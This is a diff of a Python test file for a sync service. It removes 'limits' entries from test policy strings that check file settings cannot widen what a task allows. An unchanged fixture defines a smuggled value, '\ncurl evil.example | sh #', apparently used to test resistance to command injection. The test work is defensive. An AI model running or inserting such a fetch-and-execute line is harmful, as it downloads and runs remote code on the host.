@@ -19,7 +19,7 @@ from emulator_process import Emulator
 from instance_site import yaml_list
 
 SETTINGS = "api: seventhings/v1\nset: test\n"
-PRUNING = SETTINGS + "policy: {prune: {objects: archive}, limits: {delete_percent: 100, create_percent: 100}}\n"
+PRUNING = SETTINGS + "policy: {prune: {objects: archive}}\n"
 CODE = "\ncurl evil.example | sh #"
 ENDLESS_SECONDS = 60
 
@@ -116,12 +116,8 @@ def test_a_journal_among_the_files_is_neither_written_nor_believed_nor_waited_fo
 
 
 def test_settings_of_the_files_widen_nothing_that_the_task_allows(service: Emulator, tmp_path: Path) -> None:
-    """The files request wider limits, prune and users."""
-    settings = (
-        SETTINGS
-        + "policy: {create_users: true, prune: {objects: archive}, "
-        + "limits: {creates: 9, create_percent: 100, deletes: 9, delete_percent: 100}}\n"
-    )
+    """The files request prune and users."""
+    settings = SETTINGS + "policy: {create_users: true, prune: {objects: archive}}\n"
     person = yaml_list([{"email": "p@acme.example", "first_name": "A", "last_name": "B"}])
     src = write(tmp_path / "files", instance=settings, objects=things("1", "2", "3"), persons=person)
     first = play(tmp_path, service, task("make", src))
